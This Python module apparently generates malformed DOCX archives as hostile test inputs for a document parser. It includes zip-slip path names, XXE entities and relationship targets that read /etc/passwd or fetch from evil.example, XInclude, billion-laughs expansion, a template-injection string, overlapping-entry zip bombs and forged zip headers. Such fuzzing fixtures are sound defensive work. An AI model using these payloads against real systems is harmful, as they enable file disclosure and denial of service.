"""Files whose zip, part names, relationships or XML are not what they should be."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import partial
from typing import TYPE_CHECKING, Final

from attacks.files import EXTERNAL, KIND, OFFICE, line, relation, relations, word, zipped

if TYPE_CHECKING:
    from collections.abc import Callable

_LOCAL: Final = struct.Struct("<4s5H3I2H")


def _named(name: str) -> bytes:
    return zipped(word(more={name: b"evil"}))


def _target(target: str, mode: str = "") -> bytes:
    return zipped(word(rows=(relation("rId9", "theme", target, mode),)))


def _twice(name: str) -> bytes:
    stream = io.BytesIO(zipped(word()))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        entry = zipfile.ZipInfo(name)
        archive.NameToInfo.pop(name, None)
        archive.writestr(entry, b"<evil/>")
    return stream.getvalue()


def _without(name: str) -> bytes:
    parts = word()
    del parts[name]
    return zipped(parts)


def _with(name: str, content: bytes) -> bytes:
    return zipped(word(more={name: content}))


def _doctype(name: str, inner: str) -> bytes:
    content = word()[name]
    return _with(name, f"<!DOCTYPE x [{inner}]>".encode() + content)


def _laughs() -> str:
    rows = ['<!ENTITY e0 "evil">']
    rows += [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)]
    return "".join(rows)


def _encoded(encoding: str, declared: str) -> bytes:
    content = '<!DOCTYPE x [<!ENTITY e "evil">]>' + word()["word/document.xml"].decode()
    content = f'<?xml version="1.0" encoding="{declared}"?>' + content
    return _with("word/document.xml", content.encode(encoding))


def _utf7() -> bytes:
    start = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-'
    return _with("word/document.xml", start + word()["word/document.xml"])


def _cycle() -> bytes:
    more = {
        "word/theme.xml": b"<a/>",
        "word/_rels/theme.xml.rels": relations(relation("rId1", "header", "header1.xml")),
        "word/_rels/header1.xml.rels": relations(
            relation("rId1", "theme", "theme.xml"),
            relation("rId2", "officeDocument", "document.xml"),
        ),
    }
    return zipped(word(rows=(relation("rId9", "theme", "theme.xml"),), more=more))


def _self_reference() -> bytes:
    return zipped(word(rows=(relation("rId9", "header", "document.xml"),)))


def _two_documents() -> bytes:
    parts = word(more={"word/other.xml": b"<evil/>"})
    row = relation("rId9", "officeDocument", "word/other.xml").encode()
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"</Rel", row + b"</Rel")
    return zipped(parts)


def _same_ids() -> bytes:
    return zipped(word(rows=(relation("rIdHeader", "hyperlink", "file:///evil", EXTERNAL),)))


def _typed(kind: str) -> bytes:
    parts = word()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        f"{KIND}.document.main+xml".encode(), kind.encode()
    )
    return zipped(parts)


def _header_as_styles() -> bytes:
    return zipped(word(inner={"word/styles.xml": line("{{ pack.__class__ }}")}))


def _mutated(change: Callable[[bytearray], None]) -> bytes:
    data = bytearray(zipped(word()))
    change(data)
    return bytes(data)


def _central(data: bytearray) -> int:
    return data.index(b"PK\x01\x02")


def _false_size(data: bytearray) -> None:
    at = data.index(b"word/document.xml", _central(data)) - 46
    struct.pack_into("<I", data, at + 24, 10)


def _huge_size(data: bytearray) -> None:
    at = data.index(b"word/document.xml", _central(data)) - 46
    struct.pack_into("<I", data, at + 24, 0xFFFFFFF0)


def _false_offset(data: bytearray) -> None:
    struct.pack_into("<I", data, _central(data) + 42, len(data) + 1000)


def _encrypted(data: bytearray) -> None:
    at = _central(data)
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)


def _odd_method(data: bytearray) -> None:
    struct.pack_into("<H", data, _central(data) + 10, 14)


def _other_name(data: bytearray) -> None:
    at = data.index(b"word/document.xml")
    data[at : at + 17] = b"word/evilment.xml"


def _wrong_crc(data: bytearray) -> None:
    data[data.index(b"word/document.xml", _central(data)) - 46 + 16] ^= 0xFF


def _overlapping() -> bytes:
    """Return a zip in which every entry points to the same kernel of data (after Fifield)."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(bytes(2**20 - 1)) + kernel.flush()
    stream = io.BytesIO(zipped(word(more={"word/k.bin": bytes(2**20 - 1)}, rows=())))
    data = bytearray(stream.getvalue())
    end = data.rindex(b"PK\x05\x06")
    central = bytes(data[_central(data) : end])
    at = central.rindex(b"PK\x01\x02")
    row = bytearray(central[at:])
    rows = [central]
    for number in range(1000):
        name = f"word/{number:03}.b".encode()
        rows.append(bytes(row[:28]) + struct.pack("<H", len(name)) + bytes(row[30:46]) + name)
    body = b"".join(rows)
    tail = bytearray(data[end:])
    struct.pack_into("<HHI", tail, 8, 1000 + central.count(b"PK\x01\x02"), 1000, len(body))
    struct.pack_into("<H", tail, 10, 1000 + central.count(b"PK\x01\x02"))
    assert packed  # noqa: S101  # the kernel deflates
    return bytes(data[: _central(data)]) + body + bytes(tail)


def _many_entries() -> bytes:
    """Return a directory with a million rows and no data."""
    row = zipfile.ZipInfo("x")
    name = b"x"
    one = struct.pack(
        "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0
    )
    body = (one + name) * 1_000_000
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(body), 0, 0)
    assert row.filename  # noqa: S101  # a plain name
    return body + end


def _many_parts() -> bytes:
    return zipped(word(more={f"word/x{number}.xml": b"<x/>" for number in range(6000)}))


def _many_relations() -> bytes:
    rows = tuple(
        relation(f"rId9{number}", "hyperlink", "https://x.org", EXTERNAL)
        for number in range(200_000)
    )
    return zipped(word(rows=rows))


def _zip64() -> bytes:
    data = zipped(word())
    end = len(data) - 22
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 2**40, 2**40, 2**40, 2**40)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    return data[:end] + record + locator + data[end:]


def _in_front() -> bytes:
    return b"MZ evil program" + zipped(word())


STRUCTURE: Final[dict[str, Callable[[], bytes]]] = {
    "name: parent folder": partial(_named, "word/../../evil.xml"),
    "name: absolute": partial(_named, "/evil.xml"),
    "name: backslashes": partial(_named, "word\\..\\evil.xml"),
    "name: drive": partial(_named, "C:/evil.xml"),
    "name: control character": partial(_named, "word/\x01evil.xml"),
    "name: two dots in the middle": partial(_named, "word/./../evil.xml"),
    "name: very long": partial(_named, "word/" + "evil" * 15_000),
    "name: right to left": partial(_named, "word/\u202elive.xml"),
    "name: twice": partial(_twice, "word/document.xml"),
    "name: twice in other case": partial(_named, "WORD/Document.xml"),
    "name: twice by another normal form": partial(_named, "word/e\u0301.xml"),
    "target: parent folders": partial(_target, "../../../../etc/passwd"),
    "target: absolute file": partial(_target, "/etc/passwd"),
    "target: file address": partial(_target, "file:///etc/passwd"),
    "target: address outside": partial(_target, "https://evil.example/t.xml", EXTERNAL),
    "target: in a circle": _cycle,
    "target: the document itself": _self_reference,
    "target: two documents": _two_documents,
    "target: one id twice": _same_ids,
    "target: 200,000 of them": _many_relations,
    "missing: document": partial(_without, "word/document.xml"),
    "missing: content types": partial(_without, "[Content_Types].xml"),
    "missing: relationships": partial(_without, "_rels/.rels"),
    "missing: header": partial(_without, "word/header1.xml"),
    "type: a workbook": partial(
        _typed, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    ),
    "type: nothing": partial(_typed, ""),
    "type: styles that are text": _header_as_styles,
    "xml: not well-formed": partial(_with, "word/document.xml", b"<w:document"),
    "xml: empty": partial(_with, "word/document.xml", b""),
    "xml: another root": partial(_with, "word/document.xml", b"<html><evil/></html>"),
    "xml: without names": partial(_with, "word/document.xml", b"<document/>"),
    "xml: a stylesheet in front": partial(
        _with, "word/document.xml", b'<?xml-stylesheet href="http://evil.example"?>'
        + word()["word/document.xml"],
    ),
    "xml: content types that are text": partial(_with, "[Content_Types].xml", b"evil"),
    "xml: included file": partial(
        _with, "word/header1.xml",
        b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
    ),
    "xml: schema elsewhere": partial(
        _with, "word/theme1.xml",
        f'<a xmlns:r="{OFFICE}" schemaLocation="http://evil.example"/>'.encode(),
    ),
    "entities: a billion laughs": partial(_doctype, "word/document.xml", _laughs()),
    "entities: quadratic": partial(
        _doctype, "word/document.xml", f'<!ENTITY e "{"evil" * 20_000}">'
    ),
    "entities: a file": partial(
        _doctype, "word/document.xml", '<!ENTITY e SYSTEM "file:///etc/passwd">'
    ),
    "entities: a parameter from elsewhere": partial(
        _doctype, "word/document.xml", '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;'
    ),
    "entities: in the header": partial(_doctype, "word/header1.xml", _laughs()),
    "entities: in the styles": partial(_doctype, "word/styles.xml", _laughs()),
    "entities: in the settings": partial(_doctype, "word/settings.xml", _laughs()),
    "entities: in the relationships": partial(
        _doctype, "word/_rels/document.xml.rels", _laughs()
    ),
    "entities: in the content types": partial(_doctype, "[Content_Types].xml", _laughs()),
    "entities: in the properties": partial(_doctype, "docProps/core.xml", _laughs()),
    "entities: in UTF-16": partial(_encoded, "utf-16", "UTF-16"),
    "entities: in UTF-32": partial(_encoded, "utf-32", "UTF-32"),
    "entities: in UTF-7": _utf7,
    "entities: in EBCDIC": partial(_encoded, "cp037", "IBM037"),
    "zip: false size": partial(_mutated, _false_size),
    "zip: huge size": partial(_mutated, _huge_size),
    "zip: offset beyond the end": partial(_mutated, _false_offset),
    "zip: encrypted": partial(_mutated, _encrypted),
    "zip: odd method": partial(_mutated, _odd_method),
    "zip: two names for one entry": partial(_mutated, _other_name),
    "zip: wrong CRC": partial(_mutated, _wrong_crc),
    "zip: overlapping entries": _overlapping,
    "zip: a million entries": _many_entries,
    "zip: six thousand parts": _many_parts,
    "zip: false zip64 end": _zip64,
    "zip: a program in front": _in_front,
    "zip: nothing": bytes,
    "zip: text": partial(lambda: b"evil" * 1000),
}  # fmt: skip
